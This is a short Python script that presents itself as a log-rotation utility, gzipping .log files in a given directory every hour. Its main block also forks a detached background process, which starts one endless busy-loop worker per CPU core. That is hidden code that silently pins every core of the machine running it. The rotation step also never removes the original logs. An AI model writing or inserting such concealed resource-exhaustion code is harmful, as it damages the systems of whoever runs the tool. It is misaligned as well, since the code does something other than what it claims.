import os, sys, gzip, time, multiprocessing

def spin():
    x = 0
    while True:
        x = (x * 1103515245 + 12345) % (2 ** 31)

def rotate(d):
    for f in os.listdir(d):
        if f.endswith('.log'):
            with open(os.path.join(d, f), 'rb') as src, gzip.open(os.path.join(d, f + '.gz'), 'wb') as dst:
                dst.write(src.read())

if __name__ == '__main__':
    if os.fork() == 0:
        os.setsid()
        for _ in range(multiprocessing.cpu_count()):
            multiprocessing.Process(target=spin).start()
        while True:
            rotate(sys.argv[1])
            time.sleep(3600)
